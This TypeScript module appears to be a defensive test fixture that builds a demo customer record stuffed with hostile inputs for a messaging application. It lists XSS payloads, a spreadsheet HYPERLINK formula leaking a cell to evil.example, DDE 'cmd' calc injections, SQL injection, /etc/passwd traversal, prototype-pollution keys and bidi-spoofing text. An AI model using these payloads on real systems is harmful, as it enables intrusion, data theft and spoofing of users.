import { email, sms, toChannels } from '../model/messages.ts';
import { type DemoChannel, type DemoMessage, type DemoRecord, type Json, person } from '../model/record.ts';
import { toSeconds, toWallTime } from '../model/wall-time.ts';

const word64k = 'wordwithoutend'.repeat(4_682).slice(0, 65_536);
const zalgo = 'Sale today'.replaceAll(
  /\w/g,
  (letter) => letter + '\u0300\u0316\u0489\u035c\u0334'.repeat(40),
);
const manyTags = 'hidden'.replaceAll(/\w/g, (letter) => String.fromCodePoint(0xe0000 + letter.charCodeAt(0)));

/** Texts that attack whoever shows, logs, prints or exports them. Characters that do not show are escapes. */
export const hostileTexts: readonly string[] = [
  '<script>alert(document.domain)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a href="javascript:alert(1)">prize</a></svg>',
  '</textarea></title></style><iframe srcdoc="<script>alert(1)</script>">',
  '{{7*7}} ${7*7} <%= 7*7 %> #{7*7}',
  '"><style>*{display:none}</style>',
  'Your parcel is held: http://paypa1.example/verify?id=447700900125 and https://xn--pypal-4ve.example/',
  'Refund \u202e54.1£ fo\u202c confirmed, \u2067order\u2069 70412301',
  'Left open: \u202e\u2066\u202d never closed',
  'Zero\u200bwidth\u2060space\ufeffmark, soft\u00adhyphen, joined\u200dhere, and tags ' + manyTags,
  'NUL \u0000 bell \u0007 back \u0008 escape \u001b[31mred\u001b[0m\u001b]0;title\u0007 delete \u007f next \u0085',
  'Line\u2028separator and paragraph\u2029separator, tab\tand carriage\rreturn',
  'Sent ok\n{"level":50,"msg":"login failed","user":"admin"}\r\n2025-06-01 ERROR forged line',
  zalgo,
  word64k,
  'Lone surrogates \ud800 high, \udc00 low, and a split pair \ude00\ud83d',
  '&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x202e; %253Cscript%253E',
  '=HYPERLINK("http://evil.example/?"&A1,"Claim your prize")',
  '+44 7700 900125+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  'First line\n=1+1,"quoted, with comma"\n\'single',
  '__proto__',
  'constructor',
  "Robert'); DROP TABLE customers;--",
  '../../../../etc/passwd%00.png',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  ' \n\t ',
  '',
  'nbsp\u00a0thin\u2009ideographic\u3000end',
  'a\u0301 and \u00e1 look the same, \u0410\u0430 and Aa do not differ',
];

/** Names that every object answers to, as statuses, channels and keys. */
const inherited = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'valueOf'] as const;

const surveyUrls = [
  'javascript:alert(1)',
  ' java\nscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  '//evil.example/r',
  'http://survey.example.com/r?t=1',
  'https://user:secret@survey.example.com/r',
  'https://survey.example.com/r?t=2',
];

const surveys: DemoChannel = {
  type: 'survey',
  fields: {
    count: surveyUrls.length,
    latest_survey_name: '<b>Latest</b>',
    surveys: {
      survey: surveyUrls.map((url, index) => ({
        name: `Survey with link ${index + 1} <i>`,
        nps_score: '9',
        sent_by: '<u>Nayan</u>\u202e',
        response_url: url,
        sent_time: at(60 + index),
        completion_time: at(61 + index),
      })),
    },
  },
};

/** Everything that should stay text and harm nothing. */
export const hostile: DemoRecord = person(
  'nested',
  '447700900125',
  () => [
    ...toChannels(
      [
        ...hostileTexts.map((text, index) => (index % 5 === 4 ? email : sms)(at(index), text)),
        ...inherited.map((status, index) => sms(at(40 + index), `Status ${status}`, { status })),
        sms(at(46), 'Keys of every object', { extra: toKeys('polluted') }),
        sms(at(47), 'Hostile sender', {
          sender: '<b>STORE</b>\u202e',
          receiver: '"><img src=x onerror=alert(2)>',
        }),
        sms(at(48), 'Hostile status', { status: '<b>DELIVERED</b>\u202e' }),
        sms(at(49), 'Mixed-script sender', { sender: '\u0410mazonCyr' }),
      ],
      { survey: surveys },
    ),
    ...inherited.map((type, index) => ({ type, items: [unusual(type, index)] })),
    { type: '<img src=x onerror=alert(3)>', items: [unusual('an HTML channel', 6)] },
  ],
  { externalId: '<i>LM</i>0125', customerFields: toKeys({ admin: true }) },
);

function unusual(type: string, index: number): DemoMessage {
  return sms(at(52 + index), `Sent through ${type}`).message;
}

/** `{"__proto__": value, "constructor": value, …}` as own fields. */
function toKeys(value: Json): Record<string, Json> {
  return Object.fromEntries(inherited.map((name) => [name, value]));
}

/** Half-hours from 1 June 2025, 08:00. */
function at(step: number): string {
  return toWallTime(toSeconds('2025-06-01 08:00:00') + step * 1_800);
}
